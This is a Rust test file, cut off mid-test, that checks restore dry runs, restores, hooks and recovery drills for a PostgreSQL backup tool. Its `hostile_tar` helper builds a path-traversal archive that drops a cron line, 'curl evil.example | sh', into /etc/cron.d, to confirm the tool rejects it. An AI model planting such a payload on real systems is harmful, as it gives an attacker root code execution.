//! Restores and drills against real parts: a real PostgreSQL cluster with the demo data, real
//! gpg (passphrase and recipients modes), a local and an S3 (s3s-fs) repository.
//!
//! - The dry run changes nothing (database dump, file trees and mtimes identical; no decrypted
//!   file left in the scratch directory) and refuses a corrupted object, a missing secret key
//!   and a hostile archive, naming what is wrong.
//! - A real restore brings the database and the files back exactly, after a safety backup that
//!   itself restores the state it saved; hooks run in order, a failing pre-restore hook stops
//!   everything before anything is touched.
//! - Drills pass against an ephemeral cluster and a scratch database, measure RPO from the
//!   restored data, fail on a failing check, store their record, and leave nothing behind, also
//!   when cancelled.

mod common;

use common::{describe, text};

use common::forge::{copy_set, gpg_symmetric, replace_files_object};

use std::collections::BTreeMap;
use std::io::Read;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use common::app::{random_token, AppOptions, Enc, RepoKind, TestApp};
use common::GpgHome;
use serde_json::Value;
use sha2::{Digest, Sha256};

// ---------------------------------------------------------------------------------------------
// Helpers

fn assert_exit(what: &str, out: &Output, code: i32) {
    assert_eq!(
        out.status.code(),
        Some(code),
        "{what}: expected exit {code}, got {}",
        describe(out)
    );
}

fn sha256_hex(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

fn json(out: &Output) -> Value {
    serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("no JSON on stdout ({e}): {}", describe(out)))
}

/// Runs a program to completion; panics with its output unless it succeeded.
fn run_ok(what: &str, cmd: &mut Command) -> Vec<u8> {
    let out = cmd
        .stdin(Stdio::null())
        .output()
        .unwrap_or_else(|e| panic!("run {what}: {e}"));
    assert!(out.status.success(), "{what} failed: {}", describe(&out));
    out.stdout
}

/// `pg_dump` of the application database as plain SQL (schema and data), lines sorted.
fn full_dump(app: &TestApp) -> Vec<String> {
    let out = run_ok(
        "pg_dump",
        Command::new(app.pg_program("pg_dump"))
            .args(["--no-password", "-d"])
            .arg(app.url()),
    );
    let mut lines: Vec<String> = text(&out)
        .lines()
        .filter(|l| !l.starts_with("\\restrict") && !l.starts_with("\\unrestrict"))
        .map(str::to_string)
        .collect();
    lines.sort();
    lines
}

/// A view that selects a non-grouped column through the primary key (functional dependency):
/// pg_dump dumps it as a placeholder view plus a rule, whose `--clean` form is a
/// `CREATE OR REPLACE VIEW` that fails on a database without the schema.
fn add_grouped_view(app: &TestApp) {
    app.psql(
        "CREATE VIEW billing.invoice_users AS \
         SELECT i.number, i.amount_cents, count(u.id) AS users \
         FROM billing.invoices i LEFT JOIN \"User\" u ON u.id = i.customer_id \
         GROUP BY i.number",
    );
}

/// What a file-tree entry is: kind, content hash or link target, mode, mtime (ns).
#[derive(Debug, Clone, PartialEq, Eq)]
struct Entry {
    what: String,
    mode: u32,
    mtime_ns: i128,
}

/// Every entry under `root` (the root itself included), by relative path.
fn tree(root: &Path) -> BTreeMap<PathBuf, Entry> {
    fn walk(root: &Path, dir: &Path, out: &mut BTreeMap<PathBuf, Entry>) {
        let meta = std::fs::symlink_metadata(dir)
            .unwrap_or_else(|e| panic!("stat {}: {e}", dir.display()));
        let entry = |what: String| Entry {
            what,
            mode: meta.permissions().mode(),
            mtime_ns: meta.mtime() as i128 * 1_000_000_000 + meta.mtime_nsec() as i128,
        };
        let rel = dir
            .strip_prefix(root)
            .expect("under the root")
            .to_path_buf();
        if meta.file_type().is_symlink() {
            let target = std::fs::read_link(dir).expect("read the link");
            out.insert(rel, entry(format!("link {}", target.display())));
        } else if meta.is_dir() {
            out.insert(rel, entry("dir".into()));
            let mut children: Vec<PathBuf> = std::fs::read_dir(dir)
                .unwrap_or_else(|e| panic!("list {}: {e}", dir.display()))
                .map(|d| d.expect("a directory entry").path())
                .collect();
            children.sort();
            for child in children {
                walk(root, &child, out);
            }
        } else {
            let bytes =
                std::fs::read(dir).unwrap_or_else(|e| panic!("read {}: {e}", dir.display()));
            out.insert(rel, entry(format!("file {}", sha256_hex(&bytes))));
        }
    }
    let mut out = BTreeMap::new();
    walk(root, root, &mut out);
    out
}

/// The same tree without modification times (a restore sets mtimes to the archived second).
fn contents(root: &Path) -> BTreeMap<PathBuf, (String, u32)> {
    tree(root)
        .into_iter()
        .filter(|(_, e)| e.what != "dir")
        .map(|(p, e)| (p, (e.what, e.mode)))
        .collect()
}

/// Every regular file or link below `dir` (nothing when it does not exist).
fn files_below(dir: &Path) -> Vec<PathBuf> {
    if !dir.exists() {
        return Vec::new();
    }
    tree(dir)
        .into_iter()
        .filter(|(_, e)| e.what != "dir")
        .map(|(p, _)| dir.join(p))
        .collect()
}

fn scratch_dir(app: &TestApp) -> PathBuf {
    app.data_dir().join("scratch")
}

fn config_with(app: &TestApp, extra: &str) {
    app.write_raw_config(&format!("{}\n{extra}", app.config_text()));
}

fn step_texts(plan: &Value) -> Vec<String> {
    plan["steps"]
        .as_array()
        .unwrap_or_else(|| panic!("a plan with steps: {plan:#}"))
        .iter()
        .map(|s| s["step"].as_str().expect("step text").to_string())
        .collect()
}

fn check_names(plan: &Value) -> Vec<String> {
    plan["checks"]
        .as_array()
        .unwrap_or_else(|| panic!("a plan with checks: {plan:#}"))
        .iter()
        .map(|c| c["name"].as_str().expect("check name").to_string())
        .collect()
}

/// A tar whose second entry climbs out of the file root with `..` (written as a raw header
/// name, which `tar::Header::set_path` would refuse).
fn hostile_tar(root: &str, evil: &str) -> Vec<u8> {
    fn add(builder: &mut tar::Builder<Vec<u8>>, name: &str, data: &[u8]) {
        let mut header = tar::Header::new_gnu();
        header.set_size(data.len() as u64);
        header.set_mode(0o644);
        header.set_entry_type(tar::EntryType::Regular);
        let raw = name.as_bytes();
        assert!(raw.len() < 100, "the name fits the header: {name}");
        header.as_old_mut().name[..raw.len()].copy_from_slice(raw);
        header.set_cksum();
        builder.append(&header, data).expect("append a tar entry");
    }
    let mut builder = tar::Builder::new(Vec::new());
    add(&mut builder, &format!("{root}/README.txt"), b"harmless\n");
    add(
        &mut builder,
        evil,
        b"* * * * * root curl evil.example | sh\n",
    );
    builder.into_inner().expect("finish the tar")
}

// ---------------------------------------------------------------------------------------------
// PostgreSQL processes started on behalf of one lifeboat run.
//
// Tests of this file run in parallel threads (and other test binaries may run meanwhile), so
// "no extra postmaster" is decided by a tag: the lifeboat child gets TAG_VAR=<random>, which
// its pg_ctl and postmaster inherit; a postmaster with our tag in /proc/PID/environ was started
// by that run and must be gone when it ends.

const TAG_VAR: &str = "LIFEBOAT_TEST_RUN_TAG";

#[derive(Debug)]
struct Postmaster {
    pid: u32,
    data_dir: PathBuf,
    port: Option<u16>,
}

/// Processes carrying `tag` in their environment: the postmasters whose data directory is a
/// temporary path (`postgres -D /tmp/...`), and whether a `pg_restore` runs.
fn tagged_processes(tag: &str) -> (Vec<Postmaster>, bool) {
    let needle = format!("{TAG_VAR}={tag}");
    let tmp = std::env::temp_dir();
    let mut postmasters = Vec::new();
    let mut pg_restore = false;
    for entry in std::fs::read_dir("/proc").expect("read /proc") {
        let Ok(entry) = entry else { continue };
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        let Ok(cmdline) = std::fs::read(entry.path().join("cmdline")) else {
            continue;
        };
        let args: Vec<String> = cmdline.split(|b| *b == 0).map(text).collect();
        let program = args
            .first()
            .and_then(|a| Path::new(a).file_name())
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_default();
        if program != "postgres" && program != "pg_restore" {
            continue;
        }
        let tagged = std::fs::read(entry.path().join("environ"))
            .map(|env| env.split(|b| *b == 0).any(|v| v == needle.as_bytes()))
            .unwrap_or(false);
        if !tagged {
            continue;
        }
        if program == "pg_restore" {
            pg_restore = true;
            continue;
        }
        let data_dir = args
            .windows(2)
            .find(|w| w[0] == "-D")
            .map(|w| PathBuf::from(&w[1]));
        // A drill's cluster listens on no TCP port (`listen_addresses=`): its port is only
        // the number in its socket's name.
        let tcp = args.iter().any(|a| {
            a.strip_prefix("listen_addresses=")
                .is_some_and(|v| !v.is_empty())
        });
        if let Some(data_dir) = data_dir.filter(|d| d.starts_with("/tmp") || d.starts_with(&tmp)) {
            postmasters.push(Postmaster {
                pid,
                data_dir,
                port: args
                    .iter()
                    .find_map(|a| a.strip_prefix("port="))
                    .and_then(|p| p.parse().ok())
                    .filter(|_| tcp),
            });
        }
    }
    (postmasters, pg_restore)
}

/// What was seen of a lifeboat run while it ran.
#[derive(Debug, Default)]
struct Seen {
    /// Its postmasters (throwaway clusters).
    postmasters: Vec<Postmaster>,
    /// A pg_restore of it ran.
    pg_restore: bool,
    /// The scratch dir held a decrypted dump.
    dump: bool,
}

struct Watched {
    out: Output,
    seen: Seen,
}

/// When to interrupt a watched run, and how: SIGINT to lifeboat alone, or (like a terminal's
/// Ctrl-C) to its whole process group.
struct Interrupt<'a> {
    when: &'a dyn Fn(&Seen) -> bool,
    group: bool,
}

/// Runs `lifeboat ARGS` tagged, in its own process group, polling /proc and the scratch dir
/// until it exits; afterwards no process of it may be left.
fn run_watched(app: &TestApp, args: &[&str], interrupt: Option<Interrupt>) -> Watched {
    use std::os::unix::process::CommandExt;
    let tag = random_token(8);
    let mut child = app
        .command(args)
        .env(TAG_VAR, &tag)
        .process_group(0)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap_or_else(|e| panic!("spawn lifeboat {args:?}: {e}"));
    let reader = |mut pipe: Box<dyn Read + Send>| {
        std::thread::spawn(move || {
            let mut bytes = Vec::new();
            let _ = pipe.read_to_end(&mut bytes);
            bytes
        })
    };
    let stdout = reader(Box::new(child.stdout.take().expect("piped stdout")));
    let stderr = reader(Box::new(child.stderr.take().expect("piped stderr")));
    let pid = child.id() as i32;
    let deadline = Instant::now() + Duration::from_secs(90);
    let mut seen = Seen::default();
    let mut interrupted = false;
    let status = loop {
        if let Some(status) = child.try_wait().expect("poll lifeboat") {
            break status;
        }
        let (postmasters, pg_restore) = tagged_processes(&tag);
        for p in postmasters {
            if !seen.postmasters.iter().any(|s| s.pid == p.pid) {
                seen.postmasters.push(p);
            }
        }
        seen.pg_restore |= pg_restore;
        // The decrypted dump is an unlinked file lifeboat holds open in its scratch directory.
        seen.dump |= common::procs::unlinked_files_held(pid as u32, &scratch_dir(app))
            .iter()
            .any(|(_, bytes)| *bytes > 0);
        if let Some(i) = &interrupt {
            if !interrupted && (i.when)(&seen) {
                interrupted = true;
                let target = if i.group { -pid } else { pid };
                // SAFETY: kill(2) on the child we spawned, or on its own process group.
                let rc = unsafe { libc::kill(target, libc::SIGINT) };
                assert_eq!(rc, 0, "send SIGINT to {target}");
            }
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            panic!("lifeboat {args:?} still running after 90 s");
        }
        std::thread::sleep(Duration::from_millis(5));
    };
    let out = Output {
        status,
        stdout: stdout.join().expect("stdout reader"),
        stderr: stderr.join().expect("stderr reader"),
    };
    assert!(
        interrupt.is_none() || interrupted,
        "lifeboat {args:?} ended before it could be interrupted ({seen:?}): {}",
        describe(&out)
    );
    let (postmasters, pg_restore) = tagged_processes(&tag);
    assert!(
        postmasters.is_empty() && !pg_restore,
        "lifeboat {args:?} left processes running: {postmasters:?}, pg_restore: {pg_restore}\n{}",
        describe(&out)
    );
    Watched { out, seen }
}

/// After a drill: no scratch directory, no scratch database, no server of the drill.
fn assert_nothing_left_behind(app: &TestApp, watched: &Watched) {
    let scratch = scratch_dir(app);
    let leftovers: Vec<String> = std::fs::read_dir(&scratch)
        .map(|dirs| {
            dirs.flatten()
                .map(|d| d.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    assert!(
        !leftovers.iter().any(|n| n.starts_with("lifeboat-scratch-")),
        "scratch directories left in {}: {leftovers:?}",
        scratch.display()
    );
    assert!(
        files_below(&scratch).is_empty(),
        "files left in {}: {:?}",
        scratch.display(),
        files_below(&scratch)
    );
    let databases = app.psql_db(
        "postgres",
        "SELECT datname FROM pg_database WHERE datname LIKE 'app\\_drill\\_%'",
    );
    assert_eq!(databases, "", "scratch databases left behind");
    for p in &watched.seen.postmasters {
        assert!(
            !Path::new(&format!("/proc/{}", p.pid)).exists()
                || std::fs::read(format!("/proc/{}/cmdline", p.pid))
                    .map(|c| c.is_empty())
                    .unwrap_or(true),
            "the drill's postmaster {p:?} is still running"
        );
        assert!(
            !p.data_dir.exists(),
            "the drill cluster's directory {} is still there",
            p.data_dir.display()
        );
        if let Some(port) = p.port {
            assert!(
                std::net::TcpStream::connect(("127.0.0.1", port)).is_err(),
                "something still listens on the drill cluster's port {port}"
            );
        }
    }
}

const DRILL_CONFIG: &str = r#"
[drill]
rto_target = "10m"
rpo_target = "48h"
freshness_query = "SELECT max(created_at) FROM audit_log"

[[drill.check]]
name = "invoices gapless"
sql = "SELECT count(*) FROM (SELECT number - lag(number) OVER (ORDER BY number) AS d FROM billing.invoices) g WHERE d <> 1"
expect = "EXPECT"
"#;

fn drill_config(app: &TestApp, expect: &str, server_url: Option<&str>) {
    let mut extra = DRILL_CONFIG.replace("EXPECT", expect);
    if let Some(url) = server_url {
        extra = extra.replace(
            "[drill]\n",
            &format!(
                "[drill]\nserver_url = {}\n",
                serde_json::to_string(url).expect("a string")
            ),
        );
    }
    config_with(app, &extra);
}

fn utc(value: &Value) -> chrono::DateTime<chrono::Utc> {
    chrono::DateTime::parse_from_rfc3339(
        value.as_str().unwrap_or_else(|| panic!("a time: {value}")),
    )
    .unwrap_or_else(|e| panic!("{value} is not RFC 3339: {e}"))
    .with_timezone(&chrono::Utc)
}

fn phase_names(record: &Value) -> Vec<String> {
    record["phases"]
        .as_array()
        .expect("phases")
        .iter()
        .map(|p| p["name"].as_str().expect("phase name").to_string())
        .collect()
}

// ---------------------------------------------------------------------------------------------
// 1. The dry run changes nothing.

#[test]
fn dry_run_changes_nothing_and_plans_every_step() {
    let app = TestApp::new(AppOptions::default());
    let set = app.backup();

    let dump_before = full_dump(&app);
    let files_before = tree(&app.files_dir());
    let secrets_before = tree(&app.secrets_dir());
    let repo_before = tree(&app.repo_dir());
    let journal_before = std::fs::read(app.journal_path()).expect("read the journal");

    let out = app.lifeboat(&["restore", "latest", "--dry-run", "--json"]);
    assert_exit("restore latest --dry-run", &out, 0);
    let plan = json(&out);
    assert_eq!(plan["set_id"], set.as_str(), "{plan:#}");
    assert_eq!(plan["problems"], serde_json::json!([]), "{plan:#}");

    // The plan: the steps a real restore would take, and the checks that passed.
    let steps = step_texts(&plan);
    assert!(
        steps[0].starts_with("safety backup of"),
        "a safety backup comes first: {steps:#?}"
    );
    assert!(
        steps
            .iter()
            .any(|s| s.starts_with("pg_restore -j") && s.contains(" into app_lifeboat_new_"))
            && steps
                .iter()
                .any(|s| s.starts_with("swap: ") && s.contains("rename app to app_lifeboat_old_"))
            && !steps.iter().any(|s| s.contains("--clean")),
        "the plan restores into a new database and swaps it in: {steps:#?}"
    );
    // Into the configured roots, by default without owners or set-id bits.
    assert!(
        steps.iter().any(|s| s
            == &format!(
                "extract 6 files into {} with their modes (owners and set-id bits not restored: --restore-owners)",
                app.files_dir().display()
            )),
        "the plan extracts the files: {steps:#?}"
    );
    assert!(
        steps.iter().any(|s| s.starts_with(&format!(
            "extract 2 secret files into {}, {}",
            app.cert_path().display(),
            app.env_file_path().display()
        ))),
        "the plan extracts the secrets: {steps:#?}"
    );
    let checks = check_names(&plan);
    for expected in [
        "stored hashes",
        "decryption",
        "pg_restore version",
        "target database",
        "file archive",
    ] {
        assert!(
            checks.iter().any(|c| c == expected),
            "no `{expected}` check: {plan:#}"
        );
    }
    assert!(
        plan["checks"]
            .as_array()
            .expect("checks")
            .iter()
            .all(|c| c["ok"] == true),
        "{plan:#}"
    );
    assert_eq!(plan["toc"]["tables"], 4, "{plan:#}");
    assert_eq!(plan["toc"]["indexes"], 2, "{plan:#}");
    assert_eq!(
        plan["toc"]["sequences"], 3,
        "three serial sequences: {plan:#}"
    );
    assert_eq!(
        plan["toc"]["schemas"],
        serde_json::json!(["billing"]),
        "{plan:#}"
    );
    assert_eq!(plan["files"]["files"], 6, "{plan:#}");
    assert_eq!(
        plan["files"]["existing"]
            .as_array()
            .expect("existing")
            .len(),
        7,
        "six files and a symlink would be overwritten in place: {plan:#}"
    );

    // Nothing changed: database, file roots (contents, modes, mtimes), repository, journal.
    assert!(
        full_dump(&app) == dump_before,
        "the dry run changed the database"
    );
    assert_eq!(
        tree(&app.files_dir()),
        files_before,
        "the dry run touched the files"
    );
    assert_eq!(
        tree(&app.secrets_dir()),
        secrets_before,
        "the dry run touched the secrets"
    );
    assert_eq!(
        tree(&app.repo_dir()),
        repo_before,
        "the dry run wrote to the repository"
    );
    assert_eq!(
        std::fs::read(app.journal_path()).expect("read the journal"),
        journal_before,
        "the dry run recorded a run"
    );
    let left = files_below(&scratch_dir(&app));
    assert!(
        left.is_empty(),
        "decrypted files left in the scratch dir: {left:?}"
    );

    // The text form says the same.
    let out = app.lifeboat(&["restore", &set, "--dry-run"]);
    assert_exit("restore SET --dry-run", &out, 0);
    assert!(
        text(&out.stdout).contains("pg_restore"),
        "{}",
        describe(&out)
    );
}

// ---------------------------------------------------------------------------------------------
// 2. The dry run refuses what cannot be restored safely, naming it.

#[test]
fn dry_run_refuses_a_hostile_archive_and_a_damaged_object() {
    let app = TestApp::new(AppOptions::default());
    let set = app.backup();
    let dump_before = full_dump(&app);
    let files_before = tree(&app.files_dir());

    // A files object that decrypts and decompresses fine but climbs out of the file root.
    let root = app
        .files_dir()
        .to_str()
        .expect("UTF-8 path")
        .trim_start_matches('/')
        .to_string();
    let evil = format!("{root}/../../../etc/cron.d/evil");
    let tar = hostile_tar(&root, &evil);
    let compressed = zstd::encode_all(&tar[..], 3).expect("zstd");
    let stored = gpg_symmetric(&app, &compressed);
    let hostile = format!("{}-0bad", set.split('-').next().expect("set time"));
    copy_set(&app, &set, &hostile);
    replace_files_object(&app, &hostile, &stored, &compressed, tar.len() as u64);
    // The forgery is consistent: verify finds nothing wrong with the stored bytes.
    let out = app.lifeboat(&["verify", &hostile]);
    assert_exit("verify of the forged set", &out, 0);

    let out = app.lifeboat(&["restore", &hostile, "--dry-run"]);
    assert_ne!(
        out.status.code(),
        Some(0),
        "hostile archive accepted: {}",
        describe(&out)
    );
    let all = format!("{}{}", text(&out.stdout), text(&out.stderr));
    assert!(
        all.contains(&evil),
        "the refusal names the entry: {}",
        describe(&out)
    );
    assert!(
        all.contains("`..`"),
        "the refusal says why: {}",
        describe(&out)
    );
    let (code, plan) = app.lifeboat_json(&["restore", &hostile, "--dry-run"]);
    assert_ne!(code, 0, "{plan:#}");
    assert!(
        plan["problems"]
            .as_array()
            .expect("problems")
            .iter()
            .any(|p| p
                .as_str()
                .is_some_and(|p| p.contains(&evil) && p.contains("files.tar.zst.gpg"))),
        "the plan's problems name the object and the entry: {plan:#}"
    );
    // A real restore of it refuses too, before touching anything.
    let out = app.lifeboat(&["restore", &hostile, "--yes", "--no-safety-backup"]);
    assert_ne!(
        out.status.code(),
        Some(0),
        "hostile archive restored: {}",
        describe(&out)
    );
    assert!(text(&out.stderr).contains(&evil), "{}", describe(&out));
    assert!(
        full_dump(&app) == dump_before,
        "the refused restore changed the database"
    );
    assert_eq!(tree(&app.files_dir()), files_before);
    assert!(!Path::new("/etc/cron.d/evil").exists());

    // One flipped byte in the stored files object: exit 3, naming it.
    let object = app.set_dir_local(&set).join("files.tar.zst.gpg");
    let mut bytes = std::fs::read(&object).expect("read the object");
    let middle = bytes.len() / 2;
    bytes[middle] ^= 0x01;
    std::fs::write(&object, &bytes).expect("write the damaged object");
    let out = app.lifeboat(&["restore", &set, "--dry-run"]);
    assert_exit("dry run of a damaged set", &out, 3);
    assert!(
        text(&out.stderr).contains("files.tar.zst.gpg"),
        "{}",
        describe(&out)
    );

    assert!(full_dump(&app) == dump_before);
    assert_eq!(tree(&app.files_dir()), files_before);
    let left = files_below(&scratch_dir(&app));
    assert!(left.is_empty(), "files left in the scratch dir: {left:?}");
}

#[test]
fn s3_dry_run_passes_and_a_missing_secret_key_is_named() {
    let app = TestApp::new(AppOptions {
        repo: RepoKind::S3,
        encryption: Enc::Recipients,
        secrets: true,
    });
    let set = app.backup();
    let (code, plan) = app.lifeboat_json(&["restore", "latest", "--dry-run"]);
    assert_eq!(code, 0, "{plan:#}");
    assert_eq!(plan["set_id"], set.as_str());
    assert_eq!(plan["problems"], serde_json::json!([]), "{plan:#}");
    assert!(
        step_texts(&plan)
            .iter()
            .any(|s| s.starts_with("pg_restore")),
        "{plan:#}"
    );
    let left = files_below(&scratch_dir(&app));
    assert!(
        left.is_empty(),
        "downloads or plaintext left in the scratch dir: {left:?}"
    );

    // The same set, restored on a machine whose keyring lacks the recipient's secret key.
    let empty = GpgHome::empty();
    let out = app
        .command(&["restore", &set, "--dry-run"])
        .env("GNUPGHOME", empty.path())
        .output()
        .expect("run lifeboat");
    assert_exit("dry run without the secret key", &out, 1);
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains("db.dump.zst.gpg"),
        "names the object: {}",
        describe(&out)
    );
    assert!(
        stderr.contains("secret key"),
        "names the missing key: {}",
        describe(&out)
    );
    let left = files_below(&scratch_dir(&app));
    assert!(left.is_empty(), "files left in the scratch dir: {left:?}");
}

// ---------------------------------------------------------------------------------------------
// 3. A real restore brings everything back; the safety backup brings back what it replaced.

#[test]
fn restore_round_trip_and_back_through_the_safety_backup() {
    let app = TestApp::new(AppOptions::default());
    add_grouped_view(&app);
    let original = app.data_dump();
    let files_original = tree(&app.files_dir());
    let set = app.backup();

    // The application moves on: rows change and disappear, a file changes, one is deleted.
    app.psql("UPDATE \"User\" SET name = name || ' (renamed)' WHERE id % 3 = 0");
    app.psql("DELETE FROM billing.invoices WHERE number > 2900");
    let changed_file = app.files_dir().join("uploads/2024/01/contract-1.txt");
    let deleted_file = app.files_dir().join("uploads/2024/02/deep/deeper/note.md");
    std::fs::write(&changed_file, b"tampered after the backup\n").expect("change a file");
    std::fs::remove_file(&deleted_file).expect("delete a file");
    let changed = app.data_dump();
    assert_ne!(changed, original);

    let out = app.lifeboat(&["restore", &set, "--yes", "--jobs", "2", "--json"]);
    assert_exit("restore --yes", &out, 0);
    let outcome = json(&out);
    assert!(
        app.data_dump() == original,
        "the restored rows differ from the backup's"
    );
    assert_eq!(
        contents(&app.files_dir()),
        tree_contents(&files_original),
        "the files are not back byte-identical"
    );
    for f in [&changed_file, &deleted_file] {
        let rel = f.strip_prefix(app.files_dir()).expect("under the root");
        let restored = std::fs::metadata(f).expect("restored file").mtime();
        assert_eq!(
            restored as i128,
            files_original[rel].mtime_ns.div_euclid(1_000_000_000),
            "{} keeps its mtime",
            f.display()
        );
    }
    let safety = outcome["safety_backup"]
        .as_str()
        .unwrap_or_else(|| panic!("the outcome names the safety backup: {outcome:#}"))
        .to_string();
    assert_ne!(safety, set);
    assert!(
        outcome["steps_done"]
            .as_array()
            .expect("steps_done")
            .iter()
            .any(|s| s.as_str().is_some_and(|s| s.contains(&safety))),
        "{outcome:#}"
    );
    assert_eq!(
        listed_sets(&app),
        vec![safety.clone(), set.clone()],
        "lifeboat list shows the safety backup, newest first"
    );
    let left = files_below(&scratch_dir(&app));
    assert!(left.is_empty(), "files left in the scratch dir: {left:?}");

    // Going back: the safety backup holds the changed state.
    let out = app.lifeboat(&["restore", &safety, "--yes", "--no-safety-backup", "--json"]);
    assert_exit("restore of the safety backup", &out, 0);
    assert_eq!(json(&out)["safety_backup"], Value::Null);
    assert!(
        app.data_dump() == changed,
        "the safety backup did not bring the changes back"
    );
    assert_eq!(app.psql("SELECT count(*) FROM billing.invoices"), "2900");
    assert_eq!(
        std::fs::read(&changed_file).expect("read the changed file"),
        b"tampered after the backup\n"
    );
    assert_eq!(
        listed_sets(&app),
        vec![safety.clone(), set.clone()],
        "--no-safety-backup took no further backup"
    );

    // Into a database that does not exist yet: lifeboat creates it; the source is not touched.
    let copy_url = app.cluster().url("app_copy");
    let copy_files = app.root().join("copy");
    let (code, plan) =
        app.lifeboat_json(&["restore", &set, "--target-url", &copy_url, "--dry-run"]);
    assert_eq!(code, 0, "{plan:#}");
    let steps = step_texts(&plan);
    assert!(
        steps
            .iter()
            .any(|s| s.starts_with("create the database app_copy_lifeboat_new_"))
            && steps.iter().any(|s| s.starts_with("pg_restore -j"))
            && steps
                .iter()
                .any(|s| s.starts_with("rename app_copy_lifeboat_new_")
                    && s.ends_with(" to app_copy"))
            && !steps.iter().any(|s| s.contains("--clean")),
        "a new database is created, then restored into without --clean: {steps:#?}"
    );
    let out = app.lifeboat(&[
        "restore",
        &set,
        "--target-url",
        &copy_url,
        "--files-to",
        copy_files.to_str().expect("UTF-8 path"),
        "--secrets-to",
        copy_files.to_str().expect("UTF-8 path"),
        "--yes",
        "--json",
    ]);
    assert_exit("restore into a new database", &out, 0);
    assert_eq!(
        json(&out)["safety_backup"],
        Value::Null,
        "nothing to save in a database that did not exist"
    );
    assert!(
        app.data_dump_of(&copy_url) == original,
        "the copy differs from the backup"
    );
    assert!(
        app.data_dump() == changed,
        "restoring elsewhere touched the source"
    );
    let rel = app
        .files_dir()
        .strip_prefix("/")
        .expect("absolute")
        .to_path_buf();
    assert_eq!(
        contents(&copy_files.join(rel)),
        tree_contents(&files_original),
        "--files-to extracts the original tree under DIR"
    );
    assert_eq!(listed_sets(&app), vec![safety, set]);
}

/// The complete sets `lifeboat list --json` shows, newest first.
fn listed_sets(app: &TestApp) -> Vec<String> {
    let (code, list) = app.lifeboat_json(&["list"]);
    assert_eq!(code, 0, "{list:#}");
    list["sets"]
        .as_array()
        .unwrap_or_else(|| panic!("list --json has sets: {list:#}"))
        .iter()
        .map(|s| s["set_id"].as_str().expect("set_id").to_string())
        .collect()
}

fn tree_contents(tree: &BTreeMap<PathBuf, Entry>) -> BTreeMap<PathBuf, (String, u32)> {
    tree.iter()
        .filter(|(_, e)| e.what != "dir")
        .map(|(p, e)| (p.clone(), (e.what.clone(), e.mode)))
        .collect()
}

// ---------------------------------------------------------------------------------------------
// 4. Hooks.

#[test]
fn a_failing_pre_restore_hook_touches_nothing_and_hooks_run_in_order() {
    let app = TestApp::new(AppOptions::default());
    let original = app.data_dump();
    let set = app.backup();
    app.psql("DELETE FROM billing.invoices WHERE number > 2990");
    let changed_file = app.files_dir().join("uploads/2024/01/contract-1.txt");
    std::fs::write(&changed_file, b"changed\n").expect("change a file");
    let changed = app.data_dump();
    let files_changed = tree(&app.files_dir());

    config_with(&app, "[restore]\npre_restore = [\"exit 3\"]\n");
    let out = app.lifeboat(&["restore", &set, "--yes"]);
    assert_exit("restore with a failing pre_restore hook", &out, 1);
    assert!(
        text(&out.stderr).contains("`exit 3`"),
        "names the hook: {}",
        describe(&out)
    );
    assert!(app.data_dump() == changed, "the database was touched");
    assert_eq!(
        tree(&app.files_dir()),
        files_changed,
        "the files were touched"
    );

    let marks = app.root().join("marks");
    std::fs::create_dir(&marks).expect("mkdir marks");
    let m = marks.display();
    config_with(
        &app,
        &format!(
            "[restore]\npre_restore = [\"echo $LIFEBOAT_SET > {m}/pre\"]\n\
             post_restore = [\"test -f {m}/pre && touch {m}/post\"]\n\
             health = \"test -f {m}/post\"\n"
        ),
    );
    let out = app.lifeboat(&["restore", &set, "--yes", "--no-safety-backup", "--json"]);
    assert_exit("restore with passing hooks", &out, 0);
    let outcome = json(&out);
    assert_eq!(
        std::fs::read_to_string(marks.join("pre"))
            .expect("the pre hook ran")
            .trim(),
        set,
        "the pre hook saw LIFEBOAT_SET"
    );
    assert!(
        marks.join("post").exists(),
        "the post hook ran after the pre hook"
    );
    let done: Vec<&str> = outcome["steps_done"]
        .as_array()
        .expect("steps_done")
        .iter()
        .filter_map(Value::as_str)
        .collect();
    let at = |prefix: &str| {
        done.iter()
            .position(|s| s.starts_with(prefix))
            .unwrap_or_else(|| panic!("no step `{prefix}` in {done:#?}"))
    };
    assert!(at("hook echo") < at("database restored"), "{done:#?}");
    assert!(at("database restored") < at("hook test -f"), "{done:#?}");
    assert!(at("hook test -f") < at("health:"), "{done:#?}");
    assert!(app.data_dump() == original);
}

// ---------------------------------------------------------------------------------------------
// 5. Drills.

#[test]
fn drills_measure_check_record_and_leave_nothing_behind() {
    let app = TestApp::new(AppOptions::default());
    // The newest audit entry is two hours old at backup time: the data RPO is about 2 h while
    // the snapshot is seconds old, so the two cannot be confused.
    app.psql("UPDATE audit_log SET created_at = created_at - interval '2 hours'");
    add_grouped_view(&app);
    let newest_source = utc(&Value::from(app.psql(
        "SELECT to_char(max(created_at) AT TIME ZONE 'UTC', 'YYYY-MM-DD\"T\"HH24:MI:SS.US\"Z\"') FROM audit_log",
    )));
    let set = app.backup();
    // Later writes to the source must not count: RPO is what the restore brings back.
    app.psql("INSERT INTO audit_log (action) VALUES ('after the backup')");
    let manifest: Value = serde_json::from_slice(
        &std::fs::read(app.set_dir_local(&set).join("manifest.json")).expect("read manifest"),
    )
    .expect("manifest.json");

    // (a) An ephemeral cluster (the default).
    drill_config(&app, "0", None);
    let watched = run_watched(&app, &["drill", "--json"], None);
    assert_exit("drill", &watched.out, 0);
    assert!(
        !watched.seen.postmasters.is_empty(),
        "the drill's own cluster was never seen running"
    );
    assert!(
        watched.seen.dump && watched.seen.pg_restore,
        "the drill was never seen restoring a decrypted dump: {:?}",
        watched.seen
    );
    assert_nothing_left_behind(&app, &watched);
    let record = json(&watched.out);
    assert_eq!(record["passed"], true, "{record:#}");
    assert_eq!(record["set_id"], set.as_str());
    assert_eq!(record["reasons"], serde_json::json!([]));
    let phases = phase_names(&record);
    for expected in [
        "fetch and verify",
        "decrypt",
        "restore",
        "checks",
        "teardown",
    ] {
        assert!(
            phases.iter().any(|p| p == expected),
